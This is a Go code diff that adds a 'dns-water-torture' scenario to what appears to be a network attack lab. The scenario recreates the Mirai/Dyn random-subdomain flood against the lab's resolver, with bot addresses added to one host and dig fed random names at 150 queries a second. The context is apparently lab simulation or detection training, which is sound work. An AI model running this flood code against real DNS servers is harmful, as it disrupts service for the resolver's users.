@@ -3,8 +3,10 @@ package lab
 import (
 	"encoding/binary"
 	"fmt"
+	"math/rand/v2"
 	"os"
 	"strings"
+	"syscall"
 	"time"
 )
 
@@ -43,6 +45,15 @@ func init() {
 					"-i", fmt.Sprintf("u%d", 1_000_000/rate), "-c", fmt.Sprint(count(rate, a.duration)),
 					hostServer.IPv4().String())
 			},
+		},
+		&Scenario{
+			Name: "dns-water-torture", Difficulty: Medium,
+			Description: fmt.Sprintf("DNS water torture (Mirai on Dyn, 2016): %d bots on the LAN (the attacker's extra addresses .%d–.%d) ask the LAN resolver for random subdomains of %s, each name new, %d a second in all; the resolver answers every one NXDOMAIN.",
+				tortureBots, tortureFirstOctet, tortureFirstOctet+tortureBots-1, tortureDomain, tortureRate),
+			Tools: []string{"ip", "dig"}, Classes: []string{"flood.dns"}, MITRE: []string{"T1499.002"},
+			Attacker: hostPtr(hostAtk), AttackerAddrs: tortureAddrs(), Victims: v4(hostServer), Duration: 15 * time.Second,
+			Notes:  "the bots are addresses the attacker host adds to its LAN interface for the run (one MAC, as bots behind one switch port); srv's resolver is the hammered server (the victim domain's name servers are outside the lab)",
+			attack: tortureAttack,
 		},
 		&Scenario{
 			Name: "memcached-amplification", Difficulty: Medium,
@@ -169,4 +180,58 @@ func writeAmplificationQuery(w workDir) (string, error) {
 		return "", fmt.Errorf("lab: amplification query: %w", err)
 	}
 	return p, nil
+}
+
+// The water torture: its bots, their pace and the victim domain.
+const (
+	tortureBots       = 30
+	tortureFirstOctet = 200
+	tortureRate       = 150
+	tortureDomain     = "victim-dns.example"
+)
+
+// tortureAddrs are the attacker's addresses in the water torture: its own
+// and its bots'.
+func tortureAddrs() []string {
+	out := []string{hostAtk.IPv4().String()}
+	for i := range tortureBots {
+		out = append(out, hostAddr(lanNet4, byte(tortureFirstOctet+i)).String())
+	}
+	return out
+}
+
+// tortureAttack adds the bots' addresses to the attacker's interface and
+// has one dig, reading a batch, ask the resolver from each bot in turn for
+// a new random name under the victim domain.
+func tortureAttack(a *attackRun) error {
+	bots := tortureAddrs()[1:]
+	for _, b := range bots {
+		if err := a.run(hostAtk, "ip", "addr", "add", b+"/24", "dev", "eth0"); err != nil {
+			return err
+		}
+	}
+	rng := rand.New(rand.NewPCG(uint64(a.now().Unix()), 0x746f72))
+	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
+	lines := make([]string, count(tortureRate, a.duration*4/5))
+	for i := range lines {
+		label := make([]byte, 24+rng.IntN(9))
+		for j := range label {
+			label[j] = alphabet[rng.IntN(len(alphabet))]
+		}
+		lines[i] = fmt.Sprintf("-b %s %s.%s A", bots[i%len(bots)], label, tortureDomain)
+	}
+	fifo := a.w.path("torture/names")
+	if !a.dryRun {
+		if err := os.MkdirAll(a.w.path("torture"), 0o755); err != nil {
+			return err
+		}
+		_ = os.Remove(fifo)
+		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+			return fmt.Errorf("dns-water-torture: %w", err)
+		}
+	}
+	dig := []string{"dig", "-f", fifo, "+tries=1", "+time=1", "+noall", "@" + hostServer.IPv4().String()}
+	return a.phase("random-subdomain queries", func() error {
+		return a.feed(hostAtk, dig, fifo, lines, time.Second/tortureRate)
+	})
 }
